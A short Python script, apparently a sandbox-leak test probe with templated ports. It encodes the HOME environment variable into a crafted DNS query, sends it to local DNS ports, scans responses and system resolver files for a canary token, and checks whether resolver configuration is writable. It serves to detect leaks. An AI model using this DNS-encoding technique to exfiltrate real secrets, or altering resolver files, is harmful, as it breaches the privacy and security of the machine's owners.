import re

seen = []


def look(where, content):
    """Raises what it is after, with its surroundings; else notes how much there was to see."""
    found = re.search(rb"CANARY[0-9a-f]{16}[-a-z]*", content)
    if found:
        raise RuntimeError(f"{where}: {content[max(0, found.start() - 200) : found.end() + 200]!r}")
    seen.append(f"{where} {len(content)}")


def peek(path, most=1 << 20):
    try:
        with open(path, "rb", buffering=0) as stream:
            look(path, stream.read(most) or b"")
    except OSError as error:
        seen.append(f"{path} {error.strerror}")


import os
import socket

secret = os.environ.get("HOME", "").encode().hex().encode()[:60]
question = (b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(secret)]) + secret
            + b"\x07invalid\x00\x00\x10\x00\x01")
for kind, port in ((socket.SOCK_DGRAM, @UDP_PORT@), (socket.SOCK_STREAM, @PORT@)):
    try:
        with socket.socket(socket.AF_INET, kind) as connection:
            connection.settimeout(0.3)
            connection.connect(("127.0.0.1", port))
            connection.sendall(question)
            look("dns", connection.recv(1000))
    except OSError as error:
        seen.append(f"dns {error}")
for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
    peek(path)
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        os._exit(9)  # the resolver can be pointed elsewhere: the declared causes do not have this
    except OSError as error:
        seen.append(f"{path} {error.strerror}")

raise RuntimeError(f"nothing: {'; '.join(seen)[-1500:]}")
